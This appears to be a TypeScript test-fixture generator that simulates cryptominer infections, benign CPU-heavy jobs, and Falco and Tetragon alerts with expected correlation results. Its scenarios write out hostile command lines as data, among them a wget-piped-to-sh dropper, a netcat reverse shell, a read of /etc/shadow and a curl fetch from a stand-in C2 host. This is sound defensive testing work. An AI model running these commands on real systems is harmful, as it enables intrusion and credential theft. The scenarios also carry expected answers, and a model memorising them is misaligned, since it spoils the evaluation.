import { falcoAlert, tetragonExec, tetragonExit } from './formats';
import type { SimProcess } from './host';
import { burst } from './host';
import { MINER_RULES, MINERS } from './positives';
import type { Rng } from './rng';
import type { Builder, World } from './world';
import { alignTo, MINUTE } from './world';

/** When the evidence comes: long before the rise, late in it, long after a benign one, or on a skewed clock. */

interface MinerPlan {
  /** When the miner starts (it may idle before the spike). */
  start: number;
  /** Cores while it idles before the spike. */
  idle: number;
  /** When it exits (default: when the spike ends); after the spike it idles as before. */
  end?: number;
}

function plantMiner(world: World, rng: Rng, plan: MinerPlan): { miner: SimProcess; dropper: SimProcess } {
  const spec = rng.pick(MINERS);
  const exe = `${spec.dir}/${spec.name}`;
  const cores = Math.max(1, Math.round(world.host.cpus * rng.between(0.4, 1))) * 0.96;
  const dropper = world.process({
    ppid: 1,
    name: 'bash',
    exe: '/usr/bin/bash',
    cmdline: `bash -c wget -qO- http://192.0.2.${rng.int(2, 250)}/x | sh`,
    owner: rng.pick(['www-data', 'ubuntu']),
    start: plan.start - rng.between(3_000, 12_000),
    end: plan.start + 1_000,
    load: () => 0.01,
  });
  const mining = burst(0, cores, world.spikeStart, world.spikeEnd, 5_000);
  const miner = world.process({
    ppid: dropper.pid,
    name: spec.name,
    exe,
    cmdline: `${exe} ${spec.flags}`.trim(),
    owner: dropper.owner,
    start: plan.start,
    end: plan.end ?? world.spikeEnd,
    load: (time) => (time < world.spikeStart || time >= world.spikeEnd ? plan.idle : mining(time)),
  });
  return { miner, dropper };
}

function alert(world: World, rng: Rng, miner: SimProcess, dropper: SimProcess, time: number, skewMs = 0): void {
  const rule = rng.pick(MINER_RULES.slice(0, 3));
  const stamped = time + skewMs;
  world.addFalco(
    stamped,
    falcoAlert({
      time: stamped,
      rule: rule.rule,
      priority: rule.priority,
      host: world.host.name,
      process: miner,
      parent: dropper,
      withPid: rng.chance(0.5),
      message: rule.message,
      tags: [...rule.tags],
    }),
  );
}

/**
 * Dropped and alerted on at exec, then quiet (waiting for the night, or for the pool) 15–40 minutes (wide: 5 min to
 * 3 h, the window starting 10–30 min before the exec) before mining.
 */
export const alertWellBefore: Builder = (world, rng) => {
  const lead = (world.wide ? rng.between(5, 180) : rng.between(15, 40)) * MINUTE;
  if (world.wide) {
    const from = alignTo(world.spikeStart - lead - rng.between(10, 30) * MINUTE, MINUTE);
    world.window.from = Math.min(world.window.from, from);
  }
  const { miner, dropper } = plantMiner(world, rng, { start: world.spikeStart - lead, idle: rng.between(0.002, 0.03) });
  alert(world, rng, miner, dropper, miner.start + rng.between(200, 3_000));
  return {
    description: `miner ${miner.name} alerted at exec ${(lead / MINUTE).toFixed(0)} min before it starts mining`,
    expect: { correlated: true, culprit: { pid: miner.pid, name: miner.name }, anomaly: 'cpu' },
  };
};

/**
 * Nothing fires at exec; Falco only sees the pool connection 4–10 minutes (wide: 1–20) into the spike (a reconnect, a
 * pool switch).
 */
export const alertLateInSpike: Builder = (world, rng) => {
  const { miner, dropper } = plantMiner(world, rng, { start: world.spikeStart, idle: 0 });
  const duration = world.spikeEnd - world.spikeStart;
  const at =
    world.spikeStart + Math.min(duration - MINUTE, (world.wide ? rng.between(1, 20) : rng.between(4, 10)) * MINUTE);
  alert(world, rng, miner, dropper, at);
  return {
    description: `miner ${miner.name} first alerted ${((at - world.spikeStart) / MINUTE).toFixed(1)} min into its spike`,
    expect: { correlated: true, culprit: { pid: miner.pid, name: miner.name }, anomaly: 'cpu' },
  };
};

/**
 * The miner mines, throttles back and keeps running; Falco sees its pool connection only after the spike ended,
 * 2–25 minutes on (wide: 1–28), when it reconnects.
 */
export const alertAfterSpike: Builder = (world, rng) => {
  const lag = (world.wide ? rng.between(1, 28) : rng.between(2, 25)) * MINUTE;
  const at = world.spikeEnd + lag;
  world.window.to = Math.max(world.window.to, alignTo(at + rng.between(5, 15) * MINUTE, MINUTE));
  const idle = rng.between(0.002, 0.03);
  const { miner, dropper } = plantMiner(world, rng, { start: world.spikeStart, idle, end: world.window.to + MINUTE });
  alert(world, rng, miner, dropper, at);
  return {
    description: `miner ${miner.name} first alerted ${(lag / MINUTE).toFixed(1)} min after its spike ended`,
    expect: { correlated: true, culprit: { pid: miner.pid, name: miner.name }, anomaly: 'cpu' },
  };
};

/**
 * The security tool's clock is tens of seconds off the metrics' (it stamps on another machine, or NTP is broken):
 * every Falco (and Tetragon) timestamp is shifted, the alert at exec can seem to come before the process started.
 */
export const clockSkew: Builder = (world, rng) => {
  const skewMs = Math.round((rng.chance(0.5) ? -1 : 1) * rng.between(10_000, world.wide ? 90_000 : 75_000));
  const { miner, dropper } = plantMiner(world, rng, { start: world.spikeStart, idle: 0 });
  for (const time of world.alertTimes(miner.start + rng.between(200, 20_000), rng.int(1, 4))) {
    if (time > world.spikeEnd) break;
    alert(world, rng, miner, dropper, time, skewMs);
  }
  const tetragon = rng.chance(0.5);
  if (tetragon) {
    const shifted = (p: SimProcess): SimProcess => ({
      ...p,
      start: p.start + skewMs,
      end: (p.end ?? p.start) + skewMs,
    });
    for (const [process, parent] of [
      [dropper, undefined],
      [miner, dropper],
    ] as const) {
      const p = shifted(process);
      const up = parent === undefined ? undefined : shifted(parent);
      world.tetragon.push({ time: p.start, line: tetragonExec(world.host.name, p, up) });
      world.tetragon.push({ time: p.end ?? p.start, line: tetragonExit(world.host.name, p, up, p.end ?? p.start) });
    }
  }
  return {
    description: `miner ${miner.name}, security tools' clock ${(skewMs / 1000).toFixed(0)} s off${tetragon ? ', with Tetragon' : ''}`,
    expect: { correlated: true, culprit: { pid: miner.pid, name: miner.name }, anomaly: 'cpu' },
  };
};

const JOBS = [
  { name: 'ffmpeg', exe: '/usr/bin/ffmpeg', cmdline: 'ffmpeg -i /srv/media/in.mov -c:v libx264 -preset slow out.mp4' },
  { name: 'restic', exe: '/usr/bin/restic', cmdline: 'restic backup /srv /etc --tag nightly' },
  { name: 'java', exe: '/usr/lib/jvm/java-17-openjdk-amd64/bin/java', cmdline: 'java -jar /opt/etl/etl.jar --full' },
];

const UNRELATED = [
  {
    name: 'nc',
    exe: '/usr/bin/nc.openbsd',
    cmdline: 'nc -e /bin/sh 203.0.113.50 4444',
    rule: 'Netcat Remote Code Execution in Container',
  },
  { name: 'cat', exe: '/usr/bin/cat', cmdline: 'cat /etc/shadow', rule: 'Read sensitive file untrusted' },
  {
    name: 'curl',
    exe: '/usr/bin/curl',
    cmdline: 'curl -s http://203.0.113.9/p.sh',
    rule: 'Outbound Connection to C2 Servers',
  },
];

/**
 * A benign job spikes; an alert on an unrelated, short-lived process comes 10–30 min before it or 4–15 min after
 * (wide: 5–55 min before or 1–20 min after).
 */
export const alertFarFromBenignSpike: Builder = (world, rng) => {
  const job = rng.pick(JOBS);
  world.process({
    ppid: 1,
    ...job,
    owner: 'app',
    start: world.spikeStart - rng.between(1_000, 8_000),
    end: world.spikeEnd,
    load: burst(0.01, Math.max(1, world.host.cpus * rng.between(0.4, 0.8)), world.spikeStart, world.spikeEnd),
  });
  const before = rng.chance(0.5);
  const room = (world.window.to - world.spikeEnd) / MINUTE - 1;
  const at = before
    ? world.spikeStart - (world.wide ? rng.between(5, 55) : rng.between(10, 30)) * MINUTE
    : world.spikeEnd + (world.wide ? rng.between(1, Math.min(20, room)) : rng.between(4, Math.min(15, room))) * MINUTE;
  const variant = rng.pick(UNRELATED);
  const process = world.process({
    ppid: 1,
    name: variant.name,
    exe: variant.exe,
    cmdline: variant.cmdline,
    owner: 'ubuntu',
    start: at,
    end: at + rng.between(500, 3_000),
    load: () => 0.01,
  });
  world.addFalco(
    at + 150,
    falcoAlert({
      time: at + 150,
      rule: variant.rule,
      priority: 'Critical',
      host: world.host.name,
      process,
      withPid: rng.chance(0.5),
      message: 'Suspicious activity',
    }),
  );
  return {
    description: `${job.name} spikes; ${variant.rule} on ${variant.name} ${before ? 'well before' : 'well after'} it`,
    expect: { correlated: false, neverCulprit: [variant.name, job.name], anomaly: 'cpu' },
  };
};
